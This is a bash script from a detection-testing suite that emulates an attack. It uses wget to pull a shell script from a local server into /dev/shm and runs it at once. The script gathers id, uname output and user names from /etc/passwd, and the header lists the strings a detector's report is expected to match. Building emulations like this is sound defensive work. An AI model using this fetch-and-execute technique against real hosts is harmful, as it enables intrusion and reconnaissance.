#!/bin/bash
# vigil-emulation: attack
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# tactic: execution, command-and-control
# what: wget fetches a shell script from a web server the scenario runs on 127.0.0.1 into
#   /dev/shm and runs it with sh; the script gathers `id`, `uname -a` and the list of
#   users, as first-stage scripts do.
# report: a script downloaded by wget into /dev/shm and executed right away.
# expect: download|dropped|ingress|shared memory|/dev/shm|executed from
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need wget

emul_tmpdir
www=$EMUL_DIR/www
mkdir -p "$www"
printf '#!/bin/sh\nid\nuname -a\ncut -d: -f1 /etc/passwd | head -5\n' >"$www/s.sh"
emul_server http --dir "$www"
target=/dev/shm/.vigil-emul-s-$$.sh
emul_on_exit rm -f -- "$target"
wget -q -O "$target" "http://127.0.0.1:$EMUL_PORT/s.sh"
sh "$target"
